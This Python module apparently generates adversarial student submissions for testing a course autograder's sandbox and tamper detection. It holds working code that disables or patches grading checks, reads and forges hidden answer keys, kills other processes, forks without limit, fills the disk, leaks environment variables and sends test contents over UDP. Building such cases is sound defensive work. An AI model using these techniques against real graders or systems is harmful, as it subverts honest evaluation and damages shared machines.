"""Adversarial submissions of lesson 01, built from its released student version and the solution code.

Each case is a function ``build(student_nb, source_nb, course) -> {file name: bytes}``
that returns the files a student hands in (the notebook, and sometimes more),
registered in :data:`CASES` with the scores an honest grader gives each test
cell and the event kinds ``grade`` must report for it.

Lesson 01 has five test cells of 2 points each: ``test_forward``,
``test_mse_loss``, ``test_backward_dw``, ``test_backward_db`` and
``test_gradient_descent``. The hazards hide in ``gradient_descent`` and fire
only when a test calls it (its ``x`` is not the notebook's own ``x``), so the
demonstration cells run normally and only that one test is lost. The answer-key
cases (``reads-answer-key``, ``rewrites-fixtures``, ``forges-emissions``,
``patches-checks``) instead replace every function: they get full marks from stock
autograde and 0 from ``grade``, which compares the hidden tests outside the kernel.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import nbformat

from coursetools import notebooks as nbs

NOTEBOOK = "01-univariate.ipynb"
TESTS = ["test_forward", "test_mse_loss", "test_backward_dw", "test_backward_db", "test_gradient_descent"]
FULL = dict.fromkeys(TESTS, 2.0)
ZERO = dict.fromkeys(TESTS, 0.0)
BUT_GD = {**FULL, "test_gradient_descent": 0.0}

# Inserted at the top of gradient_descent's body: runs only when a test calls it.
TRIGGER = "    if x is not globals().get('x'):\n"


def _perfect(student, source):
    return nbs.fill_stubs(student, source)


def _with_hazard(student, source, hazard: str):
    nb = _perfect(student, source)
    cell = _solution(nb, "gradient_descent")
    end = cell.source.index('    """\n') + len('    """\n')  # the end of its docstring
    cell.source = cell.source[:end] + TRIGGER + hazard + cell.source[end:]
    return nb


def _solution(nb, grade_id):
    return next(c for c in nb.cells if nbs.nbgrader_meta(c).get("grade_id") == grade_id)


def _files(nb, **extra):
    return {NOTEBOOK: nbformat.writes(nb).encode(), **extra}


def perfect(student, source, course):
    return _files(_perfect(student, source))


def blank(student, source, course):
    return _files(student)


def partial(student, source, course):
    return _files(nbs.fill_stubs(student, source, leave={"backward"}))


def infinite_loop(student, source, course):
    return _files(_with_hazard(student, source, "        while True:\n            pass\n"))


def swallows_interrupt(student, source, course):
    hazard = ("        import time\n        while True:\n            try:\n                time.sleep(0.05)\n"
              "            except KeyboardInterrupt:\n                pass\n")
    return _files(_with_hazard(student, source, hazard))


def sys_exit(student, source, course):
    nb = _perfect(student, source)
    _solution(nb, "forward").source += "\n\nimport sys\nsys.exit('bye')\n"
    return _files(nb)


def os_exit(student, source, course):
    return _files(_with_hazard(student, source, "        import os\n        os._exit(3)\n"))


def kernel_crash(student, source, course):
    return _files(_with_hazard(student, source, "        import ctypes\n        ctypes.string_at(0)\n"))


def memory_hog(student, source, course):
    return _files(_with_hazard(student, source, "        hog = bytearray(3 * 2**30)\n"))


def syntax_error(student, source, course):
    nb = _perfect(student, source)
    cell = _solution(nb, "gradient_descent")
    cell.source = cell.source.replace("def gradient_descent(", "def gradient_descent(:", 1)
    return _files(nb)


def deleted_tests(student, source, course):
    nb = _perfect(student, source)
    nb.cells = [c for c in nb.cells if nbs.nbgrader_meta(c).get("grade_id") not in ("test_forward", "test_mse_loss")]
    return _files(nb)


def edited_tests(student, source, course):
    nb = copy.deepcopy(student)
    for cell in nb.cells:
        if nbs.nbgrader_meta(cell).get("grade"):
            cell.source = '"""Always passes."""\npass'
    return _files(nb)


def edited_metadata(student, source, course):
    nb = copy.deepcopy(student)
    for cell in nb.cells:
        meta = nbs.nbgrader_meta(cell)
        if meta.get("grade_id") == "test_forward":
            meta["points"] = 100
        elif meta.get("grade_id") == "test_mse_loss":
            meta["grade"] = False
        elif meta.get("grade_id") == "test_backward_dw":
            meta["locked"] = False
            cell.source = "pass"
    return _files(nb)


def duplicate_id(student, source, course):
    nb = copy.deepcopy(student)
    test = next(c for c in nb.cells if nbs.nbgrader_meta(c).get("grade_id") == "test_forward")
    fake = copy.deepcopy(test)
    fake.source = '"""A copy that always passes."""\npass'
    fake.id = "a-copy-of-test-forward"
    nb.cells.append(fake)
    return _files(nb)


def not_json(student, source, course):
    return {NOTEBOOK: b'{"cells": [ this is not JSON'}


def empty_file(student, source, course):
    return {NOTEBOOK: b""}


def shadowing_modules(student, source, course):
    bad = b"raise ImportError('a student module shadowed the real one')\n"
    return _files(_perfect(student, source), **{"helpers.py": bad, "numpy.py": bad})


def monkeypatch(student, source, course):
    """Wrong answers, with the checkers replaced so that every test would pass."""
    nb = copy.deepcopy(student)
    patch = ("import numpy as np\nimport helpers.checks._engine, helpers.feedback\n"
             "np.allclose = lambda *a, **k: True\n"
             "np.testing.assert_allclose = lambda *a, **k: None\n"
             "helpers.feedback.assert_matches = lambda *a, **k: None\n"
             "helpers.checks._engine.assert_matches = lambda *a, **k: None\n")
    _solution(nb, "forward").source = patch + "\ndef forward(x, w, b):\n    return 0 * x\n"
    # This one patches while the test runs, inside the function the test calls.
    _solution(nb, "mse_loss").source = (
        "def mse_loss(y_hat, y):\n    import helpers.checks._engine\n"
        "    helpers.checks._engine.assert_matches = lambda *a, **k: None\n    return 0.0\n")
    return _files(nb)


def fake_guard(student, source, course):
    """Wrong answers, the checkers replaced, and the grader's own integrity check replaced by a look-alike."""
    nb = copy.deepcopy(student)
    fake = ("import helpers.checks._engine\n"
            "helpers.checks._engine.assert_matches = lambda *a, **k: None\n"
            "for _name in [k for k in globals() if k.startswith('_ct_')]:\n"
            "    globals()[_name] = lambda kind, nonce: print('@@coursetools-guard@@'\n"
            "        + '{\"kind\": \"%s\", \"nonce\": \"%s\", \"changed\": []}|0' % (kind, nonce))\n")
    _solution(nb, "forward").source = fake + "\ndef forward(x, w, b):\n    return 0 * x\n"
    return _files(nb)


def snooping(student, source, course):
    """A perfect notebook that tries to read the hidden tests and write into others' folders."""
    nb = _perfect(student, source)
    course = Path(course)
    targets = {"read": [course / "gradebook.db", course / "solutions" / "01-univariate" / NOTEBOOK],
               "list": [course / "submitted", course / "solutions"],
               "write": [course / "submitted" / "perfect" / "01-univariate" / "evil.txt", course / "gradebook.db"]}
    code = (f"import os\nfor _p in {[str(p) for p in targets['read']]!r}:\n"
            "    try:\n        open(_p, 'rb').read()\n    except OSError:\n        pass\n"
            f"for _p in {[str(p) for p in targets['list']]!r}:\n"
            "    try:\n        os.listdir(_p)\n    except OSError:\n        pass\n"
            f"for _p in {[str(p) for p in targets['write']]!r}:\n"
            "    try:\n        open(_p, 'ab').write(b'x')\n    except OSError:\n        pass\n"
            "try:\n    os.system('touch /tmp/x')\nexcept OSError:\n    pass\n")
    _solution(nb, "forward").source += "\n\n" + code
    return _files(nb)


def writes_stderr(student, source, course):
    nb = _perfect(student, source)
    cell = _solution(nb, "forward")
    cell.source = "import sys\n" + cell.source.replace(
        "    return w * x + b", "    print('debugging forward', file=sys.stderr)\n    return w * x + b")
    return _files(nb)


def _wrong_forward(student, prelude: str):
    """The released notebook (every exercise a stub) with ``prelude`` and a wrong forward in the first exercise."""
    nb = copy.deepcopy(student)
    _solution(nb, "forward").source = prelude + "\ndef forward(x, w, b):\n    return 0 * x\n"
    return nb


_NOOP = "def _noop(*a, **k):\n    return None\n"


def code_swap(student, source, course):
    """Wrong answers, with the checkers' ``__code__`` swapped for a no-op (same objects, other code)."""
    prelude = ("import helpers.feedback, helpers.checks.univariate\n" + _NOOP
               + "for _f in (helpers.feedback.assert_matches, helpers.checks.univariate.check_forward,\n"
               "           getattr(helpers.checks.univariate, 'assert_matches', None)):\n"
               "    try:\n        _f.__code__ = _noop.__code__\n    except (AttributeError, ValueError):\n"
               "        pass\n")
    return _files(_wrong_forward(student, prelude))


def custom_exc(student, source, course):
    """Nothing answered, every exception's traceback hidden with IPython's ``set_custom_exc``."""
    prelude = "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
    return _files(_wrong_forward(student, prelude))


def hidden_traceback(student, source, course):
    """Nothing answered, the shell's ``showtraceback`` replaced so that no error output is shown."""
    prelude = ("_ip = get_ipython()\n_ip.showtraceback = lambda *a, **k: None\n"
               "_ip.showsyntaxerror = lambda *a, **k: None\n")
    return _files(_wrong_forward(student, prelude))


def thread_repatch(student, source, course):
    """Wrong answers, with a thread that keeps replacing the checkers while the tests run."""
    prelude = ("import threading, time\nimport helpers.feedback, helpers.checks.univariate\n" + _NOOP
               + "def _repatch():\n    while True:\n"
               "        helpers.feedback.assert_matches = _noop\n"
               "        helpers.checks.univariate.assert_matches = _noop\n        time.sleep(0.001)\n"
               "threading.Thread(target=_repatch, daemon=True).start()\n")
    return _files(_wrong_forward(student, prelude))


def signal_repatch(student, source, course):
    """Wrong answers, with a SIGALRM handler on a 1 ms timer that replaces the checkers."""
    prelude = ("import signal\nimport helpers.feedback, helpers.checks.univariate\n" + _NOOP
               + "def _handler(signum, frame):\n    helpers.feedback.assert_matches = _noop\n"
               "    helpers.checks.univariate.assert_matches = _noop\n"
               "signal.signal(signal.SIGALRM, _handler)\nsignal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)\n")
    return _files(_wrong_forward(student, prelude))


def settrace(student, source, course):
    """Wrong answers, with a trace function that makes the checker receive the expected value."""
    prelude = ("import ctypes, sys\n"
               "def _tracer(frame, event, arg):\n"
               "    if event == 'call' and frame.f_code.co_name == 'assert_matches':\n"
               "        frame.f_locals['received'] = frame.f_locals.get('expected')\n"
               "        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))\n"
               "    return None\n"
               "sys.settrace(_tracer)\n")
    return _files(_wrong_forward(student, prelude))


def _course_targets(course):
    course = Path(course)
    return [str(course / "submitted" / "perfect" / "01-univariate" / "evil.txt"), str(course / "gradebook.db"),
            str(course / "solutions" / "01-univariate" / "evil.txt")]


def escapes(student, source, course):
    """A perfect notebook that writes into classmates' folders: a directory fd, a symlink, libc through ctypes."""
    nb = _perfect(student, source)
    code = (f"import ctypes, os\n_targets = {_course_targets(course)!r}\n"
            "for _t in _targets:\n"
            "    try:\n        _d = os.open(os.path.dirname(_t), os.O_RDONLY | os.O_DIRECTORY)\n"
            "        _f = os.open(os.path.basename(_t), os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=_d)\n"
            "        os.write(_f, b'x')\n    except OSError:\n        pass\n"
            "    try:\n        os.symlink(os.path.dirname(_t), 'escape')\n"
            "        open(os.path.join('escape', 'evil-link.txt'), 'w').write('x')\n    except OSError:\n        pass\n"
            "    _libc = ctypes.CDLL(None)\n"
            "    _fd = _libc.open((_t + '-libc').encode(), os.O_WRONLY | os.O_CREAT, 0o644)\n"
            "    if _fd >= 0:\n        _libc.write(_fd, b'x', 1)\n")
    _solution(nb, "forward").source += "\n\n" + code
    return _files(nb)


def kills_others(student, source, course):
    """A perfect notebook that, in a test, tries to kill every other process: classmates' kernels, the grader.

    In the sandbox only its own kernel can be hit (it dies: that test scores 0), and nothing outside.
    """
    hazard = ("        import ctypes, os, signal\n        _libc = ctypes.CDLL(None)\n"
              "        _libc.kill(-1, signal.SIGKILL)\n"
              "        for _pid in range(1, 4096):\n            if _pid != os.getpid():\n"
              "                _libc.kill(_pid, signal.SIGKILL)\n"
              "        try:\n            os.kill(os.getppid(), signal.SIGKILL)\n        except OSError:\n"
              "            pass\n")
    return _files(_with_hazard(student, source, hazard))


def daemon(student, source, course):
    """A perfect notebook that, in a test, leaves a detached process (double fork, setsid) to write later."""
    targets = _course_targets(course)
    hazard = ("        import ctypes, os, time\n        _libc = ctypes.PyDLL(None)\n"
              "        if _libc.fork() == 0:\n            _libc.setsid()\n            if _libc.fork() == 0:\n"
              "                for _ in range(600):\n                    time.sleep(0.1)\n"
              f"                    for _t in {targets!r}:\n"
              "                        try:\n                            open(_t + '-daemon', 'ab').write(b'x')\n"
              "                        except OSError:\n                            pass\n"
              "            os._exit(0)\n")
    return _files(_with_hazard(student, source, hazard))


def fork_bomb(student, source, course):
    """In a test: fork (through libc, past the audit hook) forever; the process limit, then the memory
    watchdog or the timeout, stop it (which one comes first depends on the machine's load)."""
    hazard = ("        import ctypes\n        _libc = ctypes.PyDLL(None)\n"
              "        while True:\n            _libc.fork()\n")
    return _files(_with_hazard(student, source, hazard))


def fills_disk(student, source, course):
    """In a test: write 32 MiB files into the working folder until the disk is full."""
    hazard = ("        _block = b'x' * (1 << 20)\n        for _k in range(100000):\n"
              "            with open(f'fill{_k}.bin', 'wb') as _f:\n                for _ in range(32):\n"
              "                    _f.write(_block)\n")
    return _files(_with_hazard(student, source, hazard))


def exhausts_files(student, source, course):
    """In a test: open files until none can be opened."""
    hazard = "        import os\n        _keep = [open(os.devnull) for _ in range(1_000_000)]\n"
    return _files(_with_hazard(student, source, hazard))


def leaks_hidden(student, source, course):
    """A perfect notebook that prints, in a test, everything the kernel holds of the test's source (history,
    linecache, frames), verbatim, base64- and hex-encoded and reversed, and stashes it to print again in a
    cell of its own at the end."""
    hazard = ("        import builtins, inspect, linecache\n        _ip = get_ipython()\n"
              "        _seen = list(_ip.user_ns.get('In', [])) + ['\\n'.join(_ip.history_manager.input_hist_raw)]\n"
              "        _seen += [''.join(v[2]) for k, v in list(linecache.cache.items())\n"
              "                  if len(v) > 2 and ('ipykernel' in k or k.startswith('<'))]\n"
              "        _seen += [''.join(f.code_context or []) for f in inspect.stack()]\n"
              "        _text = '\\n'.join(_seen)\n        print(_text)\n"
              "        import base64\n        print(base64.b64encode(_text.encode()).decode())\n"
              "        print(_text.encode().hex())\n        print(_text[::-1].replace('\\n', ' '))\n"
              "        builtins._stash = getattr(builtins, '_stash', '') + _text\n")
    nb = _with_hazard(student, source, hazard)
    nb.cells.append(nbformat.v4.new_code_cell(
        "import base64, builtins\n_s = getattr(builtins, '_stash', '')\nprint(_s)\n"
        "print(base64.b64encode(_s.encode()).decode())\nprint(base64.encodebytes(_s.encode()).decode())\n"
        "print(_s.encode().hex())\nprint(_s[::-1].replace('\\n', ' '))"))
    return _files(nb)


def leaks_environment(student, source, course):
    """A perfect notebook that prints the kernel's whole environment, in a solution cell and in a test."""
    nb = _perfect(student, source)
    _solution(nb, "forward").source += "\n\nimport os\nprint(dict(os.environ))\n"
    return _files(_with_hazard_nb(nb, "        import os\n        print(dict(os.environ))\n"))


def exfiltrates(student, source, course):
    """A perfect notebook that sends its test cells over UDP to the loopback port in ``course/.udp-port``."""
    port = int((Path(course) / ".udp-port").read_text()) if (Path(course) / ".udp-port").exists() else 9
    hazard = ("        import ctypes, socket, struct\n        _msg = repr(get_ipython().user_ns.get('In')).encode()\n"
              "        try:\n            socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
              f".sendto(_msg[:1000], ('127.0.0.1', {port}))\n"
              "        except OSError:\n            pass\n"
              "        _libc = ctypes.CDLL(None)\n        _fd = _libc.socket(2, 2, 0)\n"
              f"        _addr = struct.pack('=HH4s8x', 2, socket.htons({port}), socket.inet_aton('127.0.0.1'))\n"
              "        _libc.sendto(_fd, _msg[:1000], len(_msg[:1000]), 0, _addr, 16)\n")
    return _files(_with_hazard(student, source, hazard))


def _with_hazard_nb(nb, hazard: str):
    cell = _solution(nb, "gradient_descent")
    end = cell.source.index('    """\n') + len('    """\n')
    cell.source = cell.source[:end] + TRIGGER + hazard + cell.source[end:]
    return nb


# --------------------------------------------------------------------------- the answer key (hidden fixtures)
# Under `coursetools grade` the kernel gets the hidden fixture stripped (inputs and stand-in tables, no
# expected output) and the grader's process compares what the student's functions return; stock
# autograde copies the full hidden fixture next to the notebook, where these students find it.

_ANSWER_KEY = """
import glob as _glob, json as _json
import numpy as _np
from helpers.checks._fixtures import decode as _decode


def _documents():
    found = []
    for _pattern in ["*.json", "../*.json", {solutions!r} + "/*/*.json", {sandboxes!r} + "/*/seed/files/*.json"]:
        try:
            _paths = _glob.glob(_pattern)
        except Exception:
            continue
        for _p in _paths:
            try:
                with open(_p) as _f:
                    found.append(_json.load(_f))
            except Exception:
                pass
    return found


def _answer(name, **given):
    for _doc in _documents():
        for _e in (_doc.get("cases") or {{}}).values() if isinstance(_doc, dict) else []:
            _i = _decode(_e.get("inputs", {{}}))
            if name in _e.get("expected", {{}}) and all(
                    k in _i and _np.shape(_i[k]) == _np.shape(v) and _np.allclose(_i[k], v) for k, v in given.items()):
                return _decode(_e["expected"][name])
    return None
"""

_FROM_THE_KEY = {
    "forward": ("def forward(x, w, b):\n    r = _answer('y_hat', x=x, w=w, b=b)\n"
                "    return r if r is not None else 0 * x\n"),
    "mse_loss": ("def mse_loss(y_hat, y):\n    r = _answer('L', y_hat=y_hat, y=y)\n"
                 "    return float(r) if r is not None else 0.0\n"),
    "backward": ("def backward(x, y, y_hat):\n    dw = _answer('dw', x=x, y=y, y_hat=y_hat)\n"
                 "    db = _answer('db', x=x, y=y, y_hat=y_hat)\n"
                 "    return (0.0 if dw is None else float(dw)), (0.0 if db is None else float(db))\n"),
    "gradient_descent": ("def gradient_descent(x, y, w, b, learning_rate, steps):\n"
                         "    given = dict(x=x, y=y, w=w, b=b, learning_rate=learning_rate, steps=steps)\n"
                         "    path, losses = _answer('path', **given), _answer('losses', **given)\n"
                         "    return (_np.zeros((steps + 1, 2)) if path is None else path,\n"
                         "            _np.zeros(steps + 1) if losses is None else losses)\n"),
}


def reads_answer_key(student, source, course):
    """Every function looks its answer up in any fixture it can find (its folder, the course's solutions/,
    other sandboxes) by matching its arguments with a case's inputs; zeros when it finds none.

    Stock autograde gives full marks (the full hidden fixture is next to the notebook); `grade` gives 0:
    the visible part passes (the visible answers are public), every hidden part fails in the parent.
    """
    from coursetools.sandbox import SANDBOX_ROOT

    nb = _perfect(student, source)
    prelude = _ANSWER_KEY.format(solutions=str(Path(course) / "solutions"), sandboxes=str(SANDBOX_ROOT))
    for name, code in _FROM_THE_KEY.items():
        _solution(nb, name).source = (prelude if name == "forward" else "") + code
    return _files(nb)


_REWRITE = """
import glob as _glob, json as _json
import numpy as _np


def _zeros_for(key, i):
    def arr(shape):
        n = 1
        for k in shape:
            n *= k
        return {"shape": list(shape), "data": [0.0] * n}
    if key.startswith("check_forward"):
        return {"y_hat": arr(i["x"]["shape"])}
    if key.startswith("check_mse_loss"):
        return {"L": 0.0}
    if key.startswith("check_backward_dw"):
        return {"dw": 0.0}
    if key.startswith("check_backward_db"):
        return {"db": 0.0}
    return {"path": arr([i["steps"] + 1, 2]), "losses": arr([i["steps"] + 1])}


_HIDDEN_CASES = {}
for _p in _glob.glob("*.json"):
    with open(_p) as _f:
        _doc = _json.load(_f)
    for _k, _e in _doc.get("cases", {}).items():
        if "expected" not in _e:
            _HIDDEN_CASES[_k] = _e["inputs"]
        _e["expected"], _e["mistakes"] = _zeros_for(_k, _e["inputs"]), {}
    with open(_p, "w") as _f:
        _json.dump(_doc, _f)
"""

_ZEROS = {
    "forward": "def forward(x, w, b):\n    _forge('y_hat', x=x, w=w, b=b)\n    return 0 * x\n",
    "mse_loss": "def mse_loss(y_hat, y):\n    _forge('L', y_hat=y_hat, y=y)\n    return 0.0\n",
    "backward": "def backward(x, y, y_hat):\n    _forge('dw', x=x, y=y, y_hat=y_hat)\n    return 0.0, 0.0\n",
    "gradient_descent": ("def gradient_descent(x, y, w, b, learning_rate, steps):\n"
                         "    _forge('path', x=x, y=y, w=w, b=b, learning_rate=learning_rate, steps=steps)\n"
                         "    return _np.zeros((steps + 1, 2)), _np.zeros(steps + 1)\n"),
}

_NO_FORGE = "\n\ndef _forge(name, **given):\n    return None\n"

# The hidden cases' keys, found in the stripped fixture, answered with the visible case's (hard-coded) answers.
_FORGE = """

from helpers.checks._fixtures import MIME as _MIME, decode as _decode, encode as _encode
from IPython.display import display as _display

_VISIBLE = {"y_hat": %r, "L": %r, "dw": %r, "db": %r, "path": %r, "losses": %r}


def _forge(name, **given):
    for _k, _inputs in _HIDDEN_CASES.items():
        _i = _decode(_inputs)
        if set(_i) == set(given) and all(
                _np.shape(_i[k]) == _np.shape(v) and _np.allclose(_i[k], v) for k, v in given.items()):
            names = {"dw": ["dw", "db"], "path": ["path", "losses"]}.get(name, [name])
            if name == "dw":
                names = ["dw"] if _k.startswith("check_backward_dw") else ["db"]
            out = {}
            for n in names:
                want = _np.asarray(_VISIBLE[n], dtype=float)
                shape = _np.shape(_i["x"]) if n == "y_hat" else (
                    (int(_i["steps"]) + 1, 2) if n == "path" else (int(_i["steps"]) + 1,) if n == "losses" else ())
                out[n] = _encode(_np.resize(want, shape) if shape else float(want))
            _display({_MIME: _json.dumps({"case": _k, "outputs": out, "context": {}})}, raw=True)
"""


def _visible_answers(course):
    data = json.loads((Path(course) / "solutions" / "01-univariate" / "01-univariate.fixtures.json").read_text())
    cases = data["cases"]

    def answer(key, name):
        value = cases[key]["expected"][name]
        return value["data"] if isinstance(value, dict) else value
    descent = "check_gradient_descent(learning_rate=0.1, m=5, seed=0, steps=3)"
    return (answer("check_forward(m=5, seed=0)", "y_hat"), answer("check_mse_loss(m=5, seed=0)", "L"),
            answer("check_backward_dw(m=5, seed=0)", "dw"), answer("check_backward_db(m=5, seed=0)", "db"),
            answer(descent, "path"), answer(descent, "losses"))


def rewrites_fixtures(student, source, course):
    """Wrong functions (zeros), and a solution cell that rewrites every fixture in its folder so that zeros
    are expected (a stripped hidden case gets an expected entry too): every check in the kernel passes.

    Stock autograde gives full marks; `grade` gives 0: the kernel emitted nothing for the hidden cases.
    """
    nb = _perfect(student, source)
    for name, code in _ZEROS.items():
        _solution(nb, name).source = (_REWRITE + _NO_FORGE if name == "forward" else "") + code
    return _files(nb)


def forges_emissions(student, source, course):
    """As rewrites_fixtures, and each function, called on a hidden case's inputs, emits outputs for that case
    in the grader's format, computed from the visible fixture's (hard-coded) answers: exactly the cases the
    hidden tests ask for, once each, well formed; only the values are wrong. `grade` gives 0."""
    nb = _perfect(student, source)
    forge = _FORGE % _visible_answers(course)
    for name, code in _ZEROS.items():
        _solution(nb, name).source = (_REWRITE + forge if name == "forward" else "") + code
    return _files(nb)


def patches_checks(student, source, course):
    """Wrong functions, and the checks replaced to never fail and print a fake pass: Check.verify, the
    fixtures' emit (so nothing is emitted) and helpers.feedback's comparison are all no-ops."""
    patch = ("import helpers.checks._engine as _eng, helpers.checks._fixtures as _fx, helpers.feedback as _fb\n"
             "import numpy as _np\n"
             "_eng.Check.verify = lambda self, fn, **params: print('✓ passed') or {}\n"
             "_fx.emit = lambda *a, **k: None\n"
             "_fb.assert_matches = lambda *a, **k: None\n")
    nb = _perfect(student, source)
    for name, code in _ZEROS.items():
        _solution(nb, name).source = (patch + _NO_FORGE if name == "forward" else "") + code
    return _files(nb)


# student id -> (build, scores an honest grader gives, event kinds that must be reported)
CASES = {
    "perfect": (perfect, FULL, set()),
    "blank": (blank, ZERO, set()),
    "partial": (partial, {**FULL, "test_backward_dw": 0.0, "test_backward_db": 0.0}, set()),
    "infinite-loop": (infinite_loop, BUT_GD, {"timeout"}),
    "swallows-interrupt": (swallows_interrupt, BUT_GD, {"timeout"}),
    "sys-exit": (sys_exit, FULL, set()),
    "os-exit": (os_exit, BUT_GD, {"kernel_died"}),
    "kernel-crash": (kernel_crash, BUT_GD, {"kernel_died"}),
    "memory-hog": (memory_hog, BUT_GD, {"memory"}),
    "syntax-error": (syntax_error, BUT_GD, set()),
    "deleted-tests": (deleted_tests, FULL, {"nbgrader"}),
    "edited-tests": (edited_tests, ZERO, {"nbgrader"}),
    "edited-metadata": (edited_metadata, ZERO, {"nbgrader"}),
    "duplicate-id": (duplicate_id, ZERO, {"nbgrader"}),
    "not-json": (not_json, ZERO, {"unreadable"}),
    "empty-file": (empty_file, ZERO, {"unreadable"}),
    "shadowing-modules": (shadowing_modules, FULL, {"stray_file"}),
    "monkeypatch": (monkeypatch, ZERO, {"tampering"}),
    "fake-guard": (fake_guard, ZERO, {"tampering"}),
    "snooping": (snooping, FULL, {"sandbox"}),
    "writes-stderr": (writes_stderr, FULL, {"stderr"}),
    # tampering from inside the kernel
    "code-swap": (code_swap, ZERO, {"tampering"}),
    "custom-exc": (custom_exc, ZERO, {"error_reply"}),
    "hidden-traceback": (hidden_traceback, ZERO, {"error_reply"}),
    "thread-repatch": (thread_repatch, ZERO, {"tampering"}),
    "signal-repatch": (signal_repatch, ZERO, {"tampering"}),
    "settrace": (settrace, ZERO, {"tampering"}),
    # leaks
    "leaks-hidden": (leaks_hidden, FULL, {"leak"}),
    "leaks-environment": (leaks_environment, FULL, set()),
    # the answer key: the hidden fixture's expected values never enter the sandbox
    "reads-answer-key": (reads_answer_key, ZERO, set()),
    "rewrites-fixtures": (rewrites_fixtures, ZERO, {"forged"}),
    "forges-emissions": (forges_emissions, ZERO, set()),
    "patches-checks": (patches_checks, ZERO, {"tampering"}),
    # escaping the folder, harming others, exhausting resources: only ever run inside the sandbox
    "escapes": (escapes, FULL, {"sandbox"}),
    "kills-others": (kills_others, BUT_GD, {"sandbox"}),
    "daemon": (daemon, FULL, {"sandbox"}),
    "exfiltrates": (exfiltrates, FULL, {"sandbox"}),
    "fork-bomb": (fork_bomb, BUT_GD, {"sandbox"}),
    "fills-disk": (fills_disk, BUT_GD, set()),
    "exhausts-files": (exhausts_files, BUT_GD, set()),
}

#: Cases that would do real harm outside the sandbox (kill every process of the user, fill the disk):
#: ``build(..., sandboxed=False)`` leaves them out.
NEEDS_SANDBOX = {"escapes", "kills-others", "daemon", "exfiltrates", "fork-bomb", "fills-disk", "exhausts-files"}


def build(course: Path, students=None, *, sandboxed: bool = True) -> dict[str, dict]:
    """Write each case's files to ``course/submitted/<student>/01-univariate/``; return the expectations.

    ``course`` must hold ``solutions/`` and the generated ``notebooks/``. Without ``sandboxed``, the cases
    of :data:`NEEDS_SANDBOX` are left out.
    """
    course = Path(course)
    source = nbs.read(course / "solutions" / "01-univariate" / NOTEBOOK)
    student_nb = nbs.read(course / "notebooks" / "01-univariate" / NOTEBOOK)
    expected = {}
    for student, (make, scores, kinds) in CASES.items():
        if (students is not None and student not in students) or (not sandboxed and student in NEEDS_SANDBOX):
            continue
        folder = course / "submitted" / student / "01-univariate"
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in make(student_nb, source, course).items():
            (folder / name).write_bytes(data)
        expected[student] = {"scores": scores, "events": kinds}
    return expected


def summary(expected) -> str:
    """The plan, as JSON, for a failing test's message."""
    return json.dumps({k: sorted(v["events"]) for k, v in expected.items()}, indent=1)
